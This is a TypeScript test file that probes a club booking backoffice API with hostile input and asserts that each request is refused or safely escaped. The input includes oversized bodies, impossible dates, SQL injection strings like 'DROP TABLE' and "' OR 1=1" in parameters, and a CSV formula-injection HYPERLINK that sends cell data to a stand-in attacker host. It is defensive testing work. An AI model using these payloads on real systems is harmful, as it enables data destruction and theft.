import { bookingSeries, places, specialDays } from '@clube/db';
import { addDaysToDate, clubToday } from '@clube/shared';
import { and, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { bearerFor } from './factories';
import { build } from './helper';
import { sampleValues, seedClub } from './route-table';
import { seasonProbes, seriesBody } from './season-attacks';

/*
 * An attacker's pass over the season's routes with absurd input: huge bodies and lists, dates
 * that do not exist or are far away, negative lengths, injection in the export's parameters and
 * cells. Each probe asserts its refusal (status and code) and that nothing was written.
 */
const context = build();

const { call, expectRefused } = seasonProbes(context);

async function club() {
  const seeded = await seedClub(context.db, `Clube ${crypto.randomUUID()}`);
  await context.db
    .update(places)
    .set({ guestsAllowed: true, guestLimit: 200 })
    .where(eq(places.id, seeded.place.id));
  return { club: seeded, headers: await bearerFor(context.app, seeded.staff.cpf) };
}

const megabyte = 'x'.repeat(1024 * 1024);
const impossibleDates = ['2026-02-30', '0000-01-01', '99999-01-01', '2026-13-01', '2026-1-1'];

describe('series', () => {
  it('refuses ten years, dates that do not exist, negative minutes and odd weekdays, writing nothing', async () => {
    const { club: seeded, headers } = await club();
    const preview = (overrides: Record<string, unknown>) =>
      call('POST', '/api/backoffice/series/preview', headers, seriesBody(seeded, overrides));
    const { startsOn } = sampleValues(seeded) as { startsOn: string };
    await expectRefused(
      () => preview({ endsOn: addDaysToDate(startsOn, 3650) }),
      400,
      'SeriesTooLong',
    );
    await expectRefused(
      () => preview({ endsOn: addDaysToDate(startsOn, -1) }),
      400,
      'SeriesEndsBeforeStart',
    );
    for (const date of impossibleDates) {
      await expectRefused(() => preview({ startsOn: date }), 400, 'ValidationError');
    }
    for (const overrides of [
      { lengthMinutes: -30 },
      { lengthMinutes: 0 },
      { lengthMinutes: 1e9 },
      { weekdays: [0, 8] },
      { weekdays: [] },
      { startTime: '25:00' },
      { startTime: '-01:00' },
      { activityName: 'x'.repeat(200_000) },
    ]) {
      await expectRefused(() => preview(overrides), 400, 'ValidationError');
    }
    // Ten thousand dates to book, each one a day: refused by its size, before any is read.
    const dates = Array.from({ length: 10_000 }, (_, index) => addDaysToDate(startsOn, index));
    await expectRefused(
      () => call('POST', '/api/backoffice/series', headers, seriesBody(seeded, { dates })),
      400,
      'ValidationError',
    );
    await expectRefused(() => preview({ activityName: megabyte }), 413, 'RequestBodyTooLarge');
  });
});

describe('special days and place weeks', () => {
  it('refuses dates that do not exist, hours outside the day, years far away and huge names', async () => {
    const { club: seeded, headers } = await club();
    const day = addDaysToDate(clubToday(seeded.company.timezone), 50);
    const body = { companyId: seeded.company.id, date: day, name: 'Feriado', resolutions: [] };
    const create = (overrides: Record<string, unknown>) =>
      call('POST', '/api/backoffice/special-day', headers, { ...body, ...overrides });
    for (const date of impossibleDates) {
      await expectRefused(() => create({ date }), 400, 'ValidationError');
    }
    for (const hours of [
      { openTime: '-01:00', closeTime: '10:00' },
      { openTime: '10:00', closeTime: '25:00' },
      { openTime: '18:00', closeTime: '08:00' },
      { openTime: "08:00'; DROP TABLE special_days; --", closeTime: '10:00' },
    ]) {
      await expectRefused(
        () => create(hours),
        400,
        hours.openTime.length > 16 ? 'ValidationError' : 'SpecialDayHoursInvalid',
      );
    }
    await expectRefused(() => create({ name: 'x'.repeat(81) }), 400, 'ValidationError');
    await expectRefused(() => create({ name: megabyte }), 413, 'RequestBodyTooLarge');
    for (const year of ['0', '99999', '-1', '2026.5', 'abc']) {
      await expectRefused(
        () =>
          call(
            'GET',
            `/api/backoffice/special-day/company/${seeded.company.id}?year=${year}`,
            headers,
          ),
        400,
        'ValidationError',
      );
    }
  });

  it('refuses a week of eight days, a weekday twice and hours that are not times', async () => {
    const { club: seeded, headers } = await club();
    const put = (items: unknown) =>
      call('PUT', `/api/backoffice/place/${seeded.place.id}/week`, headers, { items });
    const monday = { dayOfWeek: 'SEGUNDA', openTime: '08:00', closeTime: '18:00' };
    await expectRefused(() => put(Array.from({ length: 8 }, () => monday)), 400, 'ValidationError');
    await expectRefused(() => put([monday, monday]), 400, 'ValidationError');
    for (const hours of [
      { openTime: '99:99', closeTime: '18:00' },
      { openTime: '08:00', closeTime: '-1' },
      { openTime: 480, closeTime: 1080 },
    ]) {
      await expectRefused(() => put([{ ...monday, ...hours }]), 400, 'ValidationError');
    }
    await expectRefused(
      () => put([{ ...monday, dayOfWeek: 'DOMINGO; DROP TABLE places' }]),
      400,
      'ValidationError',
    );
  });
});

describe('guests, waitlists and the gate list', () => {
  it('refuses ten thousand guests, a megabyte name and a CPF that is not one', async () => {
    const { club: seeded, headers } = await club();
    const put = (guests: unknown) =>
      call('PUT', `/api/backoffice/appointment/${seeded.appointment.id}/guests`, headers, {
        guests,
      });
    await expectRefused(
      () => put(Array.from({ length: 10_000 }, (_, index) => ({ name: `Convidado ${index}` }))),
      400,
      'ValidationError',
    );
    await expectRefused(() => put([{ name: megabyte }]), 413, 'RequestBodyTooLarge');
    await expectRefused(() => put([{ name: 'x'.repeat(121) }]), 400, 'ValidationError');
    await expectRefused(
      () => put([{ name: 'Robert', cpf: "1' OR '1'='1" }]),
      400,
      'GuestCpfInvalid',
    );
  });

  it('refuses a line for a time that does not exist and a gate list of year 0 or 99999', async () => {
    const { club: seeded, headers } = await club();
    for (const startsAt of [
      '2026-02-30T10:00:00.000Z',
      '0000-01-01T10:00:00.000Z',
      '+099999-01-01T10:00:00.000Z',
      'amanhã',
    ]) {
      await expectRefused(
        () =>
          call('POST', '/api/backoffice/waitlists', headers, {
            placeId: seeded.place.id,
            associateId: seeded.associate.id,
            startsAt,
          }),
        400,
        'ValidationError',
      );
    }
    for (const date of impossibleDates) {
      await expectRefused(
        () =>
          call(
            'GET',
            `/api/backoffice/gate-list?companyId=${seeded.company.id}&date=${date}`,
            headers,
          ),
        400,
        'ValidationError',
      );
    }
  });
});

describe('reports and exports', () => {
  it('refuses ten years, a reversed period and parameters carrying SQL', async () => {
    const { club: seeded, headers } = await club();
    const base = `companyId=${seeded.company.id}&period=custom`;
    for (const path of ['reports', 'reports/places/export.csv', 'appointment/export.csv']) {
      const tenYears = await call(
        'GET',
        `/api/backoffice/${path}?${base}&from=2016-01-01&to=2025-12-31`,
        headers,
      );
      expect([tenYears.statusCode, tenYears.json().error]).toEqual([400, 'ReportRangeTooLong']);
      const reversed = await call(
        'GET',
        `/api/backoffice/${path}?${base}&from=2025-12-31&to=2025-01-01`,
        headers,
      );
      expect([reversed.statusCode, reversed.json().error]).toEqual([400, 'ReportRangeReversed']);
    }
    const injected = [
      `/api/backoffice/reports/${encodeURIComponent("places'; DROP TABLE places; --")}/export.csv?companyId=${seeded.company.id}`,
      `/api/backoffice/appointment/export.csv?companyId=${seeded.company.id}&placeId=${encodeURIComponent("' OR 1=1 --")}`,
      `/api/backoffice/blocked-time/export.csv?companyId=${seeded.company.id}&period=${encodeURIComponent('custom; DROP')}`,
      `/api/backoffice/reports?companyId=${seeded.company.id}&from=${encodeURIComponent("2025-01-01' OR '1'='1")}&period=custom&to=2025-02-01`,
    ];
    for (const url of injected) {
      const response = await call('GET', url, headers);
      expect([response.statusCode, response.json().error]).toEqual([400, 'ValidationError']);
    }
    expect(
      await context.db.select().from(places).where(eq(places.id, seeded.place.id)),
    ).toHaveLength(1);
  });

  it('exports a name that looks like a formula as text, never as a formula', async () => {
    const { club: seeded, headers } = await club();
    const formula = '=HYPERLINK("http://atacante.example/?"&A1;"clique")';
    await context.db.update(places).set({ name: formula }).where(eq(places.id, seeded.place.id));
    const response = await call(
      'GET',
      `/api/backoffice/reports/places/export.csv?companyId=${seeded.company.id}`,
      headers,
    );
    expect(response.statusCode).toBe(200);
    const cells = response.body.split(/\r?\n/).flatMap((line) => line.split(';'));
    expect(cells.some((cell) => /^"?'=HYPERLINK/.test(cell))).toBe(true);
    expect(cells.some((cell) => /^"?=/.test(cell))).toBe(false);
  });
});

describe('the same write many times at once', () => {
  it('books a series once and saves a special day once, however many copies race', async () => {
    const { club: seeded, headers } = await club();
    const preview = await call(
      'POST',
      '/api/backoffice/series/preview',
      headers,
      seriesBody(seeded),
    );
    expect(preview.statusCode).toBe(200);
    const dates = (preview.json().dates as Array<{ date: string; available: boolean }>)
      .filter((date) => date.available)
      .map((date) => date.date);
    expect(dates.length).toBeGreaterThan(0);
    const series = await Promise.all(
      Array.from({ length: 4 }, () =>
        call('POST', '/api/backoffice/series', headers, seriesBody(seeded, { dates })),
      ),
    );
    expect(series.map((answer) => answer.statusCode).sort()).toEqual([201, 409, 409, 409]);
    const seriesRows = await context.db
      .select()
      .from(bookingSeries)
      .where(eq(bookingSeries.companyId, seeded.company.id));
    // The seeded series and the one saved.
    expect(seriesRows).toHaveLength(2);

    const day = addDaysToDate(clubToday(seeded.company.timezone), 90);
    const specialDay = { companyId: seeded.company.id, date: day, name: 'Festa', resolutions: [] };
    const saved = await Promise.all(
      Array.from({ length: 4 }, () =>
        call('POST', '/api/backoffice/special-day', headers, specialDay),
      ),
    );
    expect(saved.map((answer) => answer.statusCode).sort()).toEqual([201, 409, 409, 409]);
    for (const answer of saved.filter((item) => item.statusCode === 409)) {
      expect(answer.json().error).toBe('SpecialDayExists');
    }
    const days = await context.db
      .select()
      .from(specialDays)
      .where(and(eq(specialDays.companyId, seeded.company.id), eq(specialDays.date, day)));
    expect(days).toHaveLength(1);
  });
});
